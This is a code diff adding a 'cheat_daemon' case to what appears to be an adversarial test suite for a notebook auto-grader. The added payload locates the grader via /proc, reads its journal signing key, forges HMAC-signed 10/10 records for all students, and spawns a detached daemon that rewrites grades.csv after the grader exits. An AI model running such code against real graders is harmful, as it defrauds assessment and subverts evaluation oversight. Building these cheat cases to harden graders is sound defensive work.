@@ -60,6 +60,53 @@ if out is not None:
 """
 
 
+DAEMON = """
+import hashlib
+import hmac
+import json
+import os
+import time
+from pathlib import Path
+
+# Find the grader's command line, read its journal key, and forge validly
+# signed 10/10 records for every student: now, and from a detached daemon
+# that waits for the grader to exit and then also rewrites grades.csv.
+pid, args = os.getppid(), None
+while pid > 1 and args is None:
+    cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
+    if b"--out" in cmd:
+        args, grader = cmd, pid
+    pid = int(Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[1])
+if args is not None:
+    out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
+    cwd = Path(os.readlink(f"/proc/{grader}/cwd"))
+    papers = [cwd / os.fsdecode(a) for a in args if a.endswith(b".ipynb")]
+    key = (out / ".mtl-grade" / "key").read_bytes().strip()
+    points = {"check_dataloader": 2, "check_task": 3, "check_model": 2, "check_training": 3}
+
+    def forge():
+        with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
+            for paper in papers:
+                items = [{"grade_id": g, "max_points": p, "points": p, "status": "passed", "message": "ok"} for g, p in points.items()]
+                record = {"student": paper.stem, "submission": str(paper), "assignment": "04_your_turn", "notes": [], "items": items,
+                          "sha256": hashlib.sha256(paper.read_bytes()).hexdigest(), "total": 10, "max_score": 10}
+                payload = json.dumps(record, sort_keys=True)
+                sig = hmac.new(key, payload.encode(), hashlib.sha256).hexdigest()
+                journal.write(json.dumps({"record": payload, "sig": sig}) + "\\n")
+
+    forge()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while Path(f"/proc/{grader}").exists():
+                time.sleep(0.05)
+            forge()
+            (out / "grades.csv").write_text("student,total,max_score\\n" + "".join(f"{p.stem},10,10\\n" for p in papers))
+            os._exit(0)
+        os._exit(0)
+"""
+
+
 def solved() -> Any:
     """The source with hidden tests removed and solution markers dropped: a perfect student."""
     notebook = nbformat.read(SOURCE, as_version=4)
@@ -194,6 +241,7 @@ MAKERS: dict[str, Callable[[], Any]] = {
         with_stubs(*STUB_TAIL),
     ),
     "cheat_output_folder": append_to("inv_dataloader", WRITE_OUTPUTS, with_stubs(*STUB_TAIL)),
+    "cheat_daemon": append_to("inv_dataloader", DAEMON, with_stubs(*STUB_TAIL)),
 }
 
 
